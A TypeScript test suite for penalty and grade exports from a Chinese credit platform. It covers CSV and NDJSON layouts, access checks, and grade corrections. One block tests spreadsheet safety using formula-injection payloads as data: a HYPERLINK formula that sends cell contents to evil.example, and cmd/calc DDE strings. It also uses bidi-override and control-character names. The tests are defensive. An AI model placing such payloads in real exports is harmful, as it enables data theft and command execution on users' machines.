/** Exports for the public credit platforms: penalties in their layout, and published grades. */
import request from 'supertest';
import type { App } from 'supertest/types';
import { parse } from 'csv-parse/sync';
import { actors, bearer, registrationBody, startTestApp, type TestApp } from './support/app';
import { approvedAgency, assess, newUscc, regulatorOf } from './support/grading';
import { HOOK_TIMEOUT_MS } from './support/timeouts';

/** 处罚机关 and 数据来源单位 codes, as an operator configures them (test values). */
const AUTHORITIES = {
  beijing: {
    ecology: { uscc: '91110000802100433B' },
    dataSource: { name: '北京市公共信用信息服务中心', uscc: newUscc('beijing') },
  },
};

/** The day the exports are made: 2026-11-30 in Shanghai. */
const EXPORT_DAY = '2026-11-30T04:00:00.000Z';

describe('exports', () => {
  let t: TestApp;
  let http: App;
  let bj: string;
  let cq: string;
  let sinceSecond: string;
  const beijing = regulatorOf('beijing');
  const penalty = (decisionNumber: string, fineYuan: number) => ({
    decisionNumber,
    decidedAt: '2026-03-01',
    violationType: 'untrue-report',
    legalBasis: '《生态环境监测条例》第三十九条',
    content: '罚款, 责令改正',
    fineYuan,
    authority: '北京市生态环境局',
  });

  beforeAll(async () => {
    // The export judges display (是否公示, NDRC Order No. 58) on the app's today: a fixed one,
    // so no answer here depends on the day the suite runs.
    t = await startTestApp('exports', {
      clock: { now: () => new Date(EXPORT_DAY) },
      env: { LEDGER_AUTHORITIES: JSON.stringify(AUTHORITIES) },
    });
    http = t.app.getHttpServer();
    bj = await approvedAgency(http, 'beijing');
    cq = await approvedAgency(http, 'chongqing');
    await request(http)
      .post(`/api/v1/agencies/${bj}/penalties`)
      .set('Authorization', beijing)
      .send(penalty('京环罚〔2026〕1号', 50000))
      .expect(201);
    sinceSecond = await t.ledgerNow();
    await request(http)
      .post(`/api/v1/agencies/${cq}/penalties`)
      .set('Authorization', regulatorOf('chongqing'))
      .send({ ...penalty('渝环罚〔2026〕2号', 12000), authority: '重庆市生态环境局' })
      .expect(201);
    await assess(http, bj, 'beijing', { score: 91 });
    await request(http)
      .post('/api/v1/grading-cycles')
      .set('Authorization', beijing)
      .send({ jurisdiction: 'beijing', year: 2025, occurredAt: '2026-01-12' })
      .expect(201);
    await request(http)
      .post('/api/v1/grading-cycles/beijing-2025/publish')
      .set('Authorization', beijing)
      .send({ occurredAt: '2026-01-20' })
      .expect(201);
  }, HOOK_TIMEOUT_MS);
  afterAll(() => t.close(), HOOK_TIMEOUT_MS);

  it('exports every field of the 双公示 penalty layout, in order, with Chinese code names and the configured authorities', async () => {
    const res = await request(http)
      .get('/api/v1/exports/penalties')
      .set('Authorization', bearer(actors.auditor))
      .expect(200);
    const [header] = parse(res.text, { bom: true, to_line: 1 }) as string[][];
    expect(header).toEqual([
      '行政相对人名称',
      '行政相对人类别',
      '统一社会信用代码',
      '工商注册号',
      '组织机构代码',
      '税务登记号',
      '事业单位证书号',
      '社会组织登记证号',
      '法定代表人',
      '法定代表人证件类型',
      '法定代表人证件号码',
      '证件类型',
      '证件号码',
      '行政处罚决定书文号',
      '违法行为类型',
      '违法事实',
      '处罚依据',
      '处罚类别',
      '处罚内容',
      '罚款金额（万元）',
      '没收违法所得、没收非法财物的金额（万元）',
      '暂扣或吊销证照名称及编号',
      '处罚决定日期',
      '处罚有效期',
      '公示截止期',
      '处罚机关',
      '处罚机关统一社会信用代码',
      '数据来源单位',
      '数据来源单位统一社会信用代码',
      '备注',
    ]);
    const rows = parse(res.text, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows[0]).toMatchObject({
      行政相对人类别: '法人及非法人组织',
      统一社会信用代码: bj,
      法定代表人: expect.stringMatching(/\S/),
      法定代表人证件号码: '',
      违法行为类型: '出具不实监测报告',
      违法事实: '罚款, 责令改正',
      处罚类别: '罚款',
      '罚款金额（万元）': '5',
      处罚决定日期: '2026-03-01',
      公示截止期: '2029-02-28',
      处罚机关: '北京市生态环境局',
      处罚机关统一社会信用代码: AUTHORITIES.beijing.ecology.uscc,
      数据来源单位: AUTHORITIES.beijing.dataSource.name,
      数据来源单位统一社会信用代码: AUTHORITIES.beijing.dataSource.uscc,
      备注: '',
    });
    // A penalty recorded without an authority names the jurisdiction's bureau.
    expect(rows[1]).toMatchObject({ 统一社会信用代码: cq, 处罚机关: '重庆市生态环境局' });
  });

  it('exports penalties as CSV in the ledger layout, each regulator its own jurisdiction', async () => {
    const res = await request(http)
      .get('/api/v1/exports/penalties?layout=ledger')
      .set('Authorization', bearer(actors.auditor))
      .expect(200);
    expect(res.headers['content-type']).toMatch(/^text\/csv/);
    const rows = parse(res.text, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).toHaveLength(2);
    expect(rows[0]).toMatchObject({
      统一社会信用代码: bj,
      行政处罚决定书文号: '京环罚〔2026〕1号',
      处罚内容: '罚款, 责令改正',
      '罚款金额（万元）': '5',
      处罚决定日期: '2026-03-01',
      是否公示: '是',
      // An untrue report is serious dishonesty: shown 3 years (NDRC Order No. 58).
      公示截止期: '2029-02-28',
    });
    const own = parse(
      (
        await request(http)
          .get('/api/v1/exports/penalties?layout=ledger')
          .set('Authorization', beijing)
          .expect(200)
      ).text,
      { columns: true, bom: true },
    );
    expect((own as Record<string, string>[]).map((r) => r['统一社会信用代码'])).toEqual([bj]);
  });

  it('exports only what was recorded since a time, as NDJSON', async () => {
    const res = await request(http)
      .get('/api/v1/exports/penalties')
      .query({ since: sinceSecond, format: 'ndjson' })
      .set('Authorization', bearer(actors.auditor))
      .expect(200);
    const lines = res.text
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toHaveLength(1);
    expect(lines[0]).toMatchObject({
      统一社会信用代码: cq,
      行政处罚决定书文号: '渝环罚〔2026〕2号',
    });
  });

  it('keeps penalties from the public and agencies, and names a bad format', async () => {
    await request(http).get('/api/v1/exports/penalties').expect(401);
    await request(http)
      .get('/api/v1/exports/penalties')
      .set('Authorization', bearer(actors.agency(bj)))
      .expect(403);
    const bad = await request(http)
      .get('/api/v1/exports/penalties?format=xml')
      .set('Authorization', beijing)
      .expect(400);
    expect(bad.body.message[0]).toMatch(/^format: /);
  });

  it('exports published grades to anyone', async () => {
    const res = await request(http)
      .get('/api/v1/exports/grades?jurisdiction=beijing&year=2025')
      .expect(200);
    const rows = parse(res.text, { columns: true, bom: true }) as Record<string, string>[];
    expect(rows).toEqual([
      expect.objectContaining({
        统一社会信用代码: bj,
        等级: 'A',
        得分: '91',
        公布日期: '2026-01-20',
        评价办法版本: 'beijing/2026-draft',
        生效日期: '2026-01-20',
        截止日期: '2026-03-01',
        是否现行: '否',
      }),
      // The untrue-report penalty of 2026-03-01 revokes it: D from that day (beijing-15).
      expect.objectContaining({
        统一社会信用代码: bj,
        评价年度: '2025',
        等级: 'D',
        公布日期: '2026-01-20',
        生效日期: '2026-03-01',
        截止日期: '',
        等级来源: 'direct-downgrade',
        是否现行: '是',
      }),
    ]);
    expect(
      (
        await request(http)
          .get('/api/v1/exports/grades?jurisdiction=chongqing&year=2025')
          .expect(200)
      ).text
        .trim()
        .split('\n'),
    ).toHaveLength(1);
  });
});

describe('the grade export shows the grade in force after every correction (issue 11)', () => {
  let t: TestApp;
  let http: App;
  let low: string;
  let fraud: string;
  let steady: string;
  const beijing = regulatorOf('beijing');

  beforeAll(async () => {
    t = await startTestApp('exports-truth');
    http = t.app.getHttpServer();
    low = await approvedAgency(http, 'beijing');
    fraud = await approvedAgency(http, 'beijing');
    steady = await approvedAgency(http, 'beijing');
    await assess(http, low, 'beijing', { score: 50 });
    await assess(http, fraud, 'beijing', { score: 92 });
    await assess(http, steady, 'beijing', { score: 80 });
    await request(http)
      .post('/api/v1/grading-cycles')
      .set('Authorization', beijing)
      .send({ jurisdiction: 'beijing', year: 2025, occurredAt: '2026-01-12' })
      .expect(201);
    const objection = await request(http)
      .post(`/api/v1/agencies/${low}/objections`)
      .set('Authorization', bearer(actors.agency(low)))
      .send({ cycleId: 'beijing-2025', reason: '评分有误', occurredAt: '2026-01-16' })
      .expect(201);
    await request(http)
      .post('/api/v1/grading-cycles/beijing-2025/publish')
      .set('Authorization', beijing)
      .send({ occurredAt: '2026-01-20' })
      .expect(201);
    // Corrections after publication: an objection upheld, and a direct downgrade (beijing-15).
    await request(http)
      .post(`/api/v1/objections/${objection.body.objectionId as string}/decision`)
      .set('Authorization', beijing)
      .send({ outcome: 'upheld', revisedScore: 76, occurredAt: '2026-01-23' })
      .expect(201);
    await request(http)
      .post(`/api/v1/agencies/${fraud}/penalties`)
      .set('Authorization', beijing)
      .send({
        decisionNumber: '京环罚〔2026〕9号',
        decidedAt: '2026-03-02',
        violationType: 'data-fraud',
        legalBasis: '《生态环境监测条例》第三十九条',
        content: '罚款',
        occurredAt: '2026-03-02',
      })
      .expect(201);
  }, HOOK_TIMEOUT_MS);
  afterAll(() => t.close(), HOOK_TIMEOUT_MS);

  it('lists the published grade and each correction with the day it took effect', async () => {
    const res = await request(http)
      .get('/api/v1/exports/grades?jurisdiction=beijing&year=2025')
      .expect(200);
    const rows = parse(res.text, { columns: true, bom: true }) as Record<string, string>[];
    const of = (uscc: string) =>
      rows
        .filter((r) => r['统一社会信用代码'] === uscc)
        .map((r) => ({
          等级: r['等级'],
          得分: r['得分'],
          生效日期: r['生效日期'],
          截止日期: r['截止日期'],
          等级来源: r['等级来源'],
          是否现行: r['是否现行'],
          公布日期: r['公布日期'],
          评价年度: r['评价年度'],
        }));
    const cycle = { 公布日期: '2026-01-20', 评价年度: '2025' };
    expect(of(low)).toEqual([
      {
        ...cycle,
        等级: 'D',
        得分: '50',
        生效日期: '2026-01-20',
        截止日期: '2026-01-23',
        等级来源: 'cycle-published',
        是否现行: '否',
      },
      {
        ...cycle,
        等级: 'B',
        得分: '76',
        生效日期: '2026-01-23',
        截止日期: '',
        等级来源: 'objection-upheld',
        是否现行: '是',
      },
    ]);
    expect(of(fraud)).toEqual([
      {
        ...cycle,
        等级: 'A',
        得分: '92',
        生效日期: '2026-01-20',
        截止日期: '2026-03-02',
        等级来源: 'cycle-published',
        是否现行: '否',
      },
      {
        ...cycle,
        等级: 'D',
        得分: '',
        生效日期: '2026-03-02',
        截止日期: '',
        等级来源: 'direct-downgrade',
        是否现行: '是',
      },
    ]);
    expect(of(steady)).toEqual([
      {
        ...cycle,
        等级: 'B',
        得分: '80',
        生效日期: '2026-01-20',
        截止日期: '',
        等级来源: 'cycle-published',
        是否现行: '是',
      },
    ]);
    // The grade in force the export names is the one the grade query answers.
    for (const uscc of [low, fraud, steady]) {
      const inForce = rows.find((r) => r['统一社会信用代码'] === uscc && r['是否现行'] === '是')!;
      const grade = await request(http).get(`/api/v1/agencies/${uscc}/grade`).expect(200);
      expect({ grade: grade.body.grade, from: grade.body.effectiveFrom }).toEqual({
        grade: inForce['等级'],
        from: inForce['生效日期'],
      });
    }
  });

  it('answers the same rows as NDJSON, and nothing for a year no cycle published', async () => {
    const ndjson = await request(http)
      .get('/api/v1/exports/grades?jurisdiction=beijing&format=ndjson')
      .expect(200);
    const lines = ndjson.text
      .trim()
      .split('\n')
      .map((l) => JSON.parse(l) as Record<string, unknown>);
    expect(lines).toHaveLength(5);
    expect(
      lines.find((l) => l['统一社会信用代码'] === low && l['是否现行'] === '是'),
    ).toMatchObject({
      等级: 'B',
      得分: 76,
      生效日期: '2026-01-23',
      截止日期: null,
    });
    const none = await request(http)
      .get('/api/v1/exports/grades?year=2024&format=ndjson')
      .expect(200);
    expect(none.text).toBe('');
  });
});

describe('exports are safe to open in a spreadsheet (issue 9)', () => {
  let t: TestApp;
  let http: App;
  let uscc: string;
  const auditor = bearer(actors.auditor);
  const formulaName = '=HYPERLINK("http://evil.example/?d="&A1,"点击")';

  beforeAll(async () => {
    t = await startTestApp('exports-safe');
    http = t.app.getHttpServer();
    uscc = await approvedAgency(http, 'jiaxing', { name: formulaName });
    await request(http)
      .post(`/api/v1/agencies/${uscc}/penalties`)
      .set('Authorization', regulatorOf('jiaxing'))
      .send({
        decisionNumber: '-2+3',
        decidedAt: '2026-03-01',
        violationType: 'other',
        legalBasis: "+cmd|' /C calc'!A0",
        content: '\t罚款, 责令改正',
        authority: "@SUM(1+1)*cmd|' /C calc'!A0",
        fineYuan: 1000,
      })
      .expect(201);
  }, HOOK_TIMEOUT_MS);
  afterAll(() => t.close(), HOOK_TIMEOUT_MS);

  const penaltiesCsv = (query = '') =>
    request(http)
      .get(`/api/v1/exports/penalties${query}`)
      .set('Authorization', auditor)
      .buffer(true)
      .parse((res, done) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => done(null, Buffer.concat(chunks)));
      })
      .expect(200);

  it('starts every CSV with a UTF-8 BOM, unless bom=false', async () => {
    const withBom = (await penaltiesCsv()).body as Buffer;
    expect([...withBom.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    expect(withBom.subarray(3).toString('utf8')).toMatch(/^行政相对人名称,/);
    const without = (await penaltiesCsv('?bom=false')).body as Buffer;
    expect(without.toString('utf8')).toMatch(/^行政相对人名称,/);
    const grades = await request(http).get('/api/v1/exports/grades?year=2025').expect(200);
    expect(grades.text.charCodeAt(0)).toBe(0xfeff);
    const bad = await request(http).get('/api/v1/exports/grades?bom=yes').expect(400);
    expect(bad.body.message).toEqual(['bom: must be one of true, false']);
  });

  it('prefixes a single quote to every cell a spreadsheet would take for a formula', async () => {
    const text = ((await penaltiesCsv()).body as Buffer).toString('utf8');
    const [row] = parse(text, { columns: true, bom: true }) as Record<string, string>[];
    expect(row).toMatchObject({
      行政相对人名称: `'${formulaName}`,
      统一社会信用代码: uscc,
      行政处罚决定书文号: "'-2+3",
      处罚依据: "'+cmd|' /C calc'!A0",
      处罚内容: "'\t罚款, 责令改正",
      处罚机关: "'@SUM(1+1)*cmd|' /C calc'!A0",
      '罚款金额（万元）': '0.1',
    });
    // NDJSON is data for programs, not a spreadsheet: as recorded.
    const ndjson = await request(http)
      .get('/api/v1/exports/penalties?format=ndjson')
      .set('Authorization', auditor)
      .expect(200);
    expect(JSON.parse(ndjson.text.trim())).toMatchObject({ 行政相对人名称: formulaName });
  });

  it.each([
    [
      'a bidirectional override',
      'name',
      '北京\u202E司公限有技科',
      'bidirectional override characters (U+202E)',
    ],
    ['an isolate', 'name', '北京\u2066环测', 'bidirectional override characters (U+2066)'],
    ['a C0 control', 'name', '北京\u0007环测', 'control characters (U+0007)'],
    ['a C1 control', 'name', '北京\u009B环测', 'control characters (U+009B)'],
    ['a line break', 'name', '北京\n环测', 'must be on one line, without tabs (U+000A)'],
    ['a tab', 'name', '北京\t环测', 'must be on one line, without tabs (U+0009)'],
    ['NUL', 'name', '北京\u0000环测', 'NUL character (U+0000)'],
    ['a lone surrogate', 'name', '北京\ud800环测', 'unpaired surrogate U+D800'],
  ])('refuses an agency name with %s, naming the field', async (_what, field, value, said) => {
    const code = newUscc('beijing');
    const res = await request(http)
      .post('/api/v1/agencies')
      .set('Authorization', bearer(actors.agency(code)))
      .send({ ...registrationBody(code), [field]: value })
      .expect(400);
    expect(res.body.message).toEqual([expect.stringMatching(new RegExp(`^${field}: `))]);
    expect(res.body.message[0]).toContain(said);
    await request(http).get(`/api/v1/agencies/${code}`).set('Authorization', auditor).expect(404);
  });

  it('refuses them in the other free texts too, naming the path', async () => {
    const res = await request(http)
      .post(`/api/v1/agencies/${uscc}/inspections`)
      .set('Authorization', regulatorOf('jiaxing'))
      .send({
        inspectedAt: '2026-03-02',
        method: 'on-site',
        findings: [{ code: 'other', description: '记录\u202E不全' }],
      })
      .expect(400);
    expect(res.body.message).toEqual([
      'findings.0.description: must not contain bidirectional override characters (U+202E)',
    ]);
    // Prose may break lines.
    await request(http)
      .post(`/api/v1/agencies/${uscc}/inspections`)
      .set('Authorization', regulatorOf('jiaxing'))
      .send({
        inspectedAt: '2026-03-02',
        method: 'on-site',
        findings: [{ code: 'other', description: '原始记录不完整；\n样品标签缺失' }],
      })
      .expect(201);
  });
});
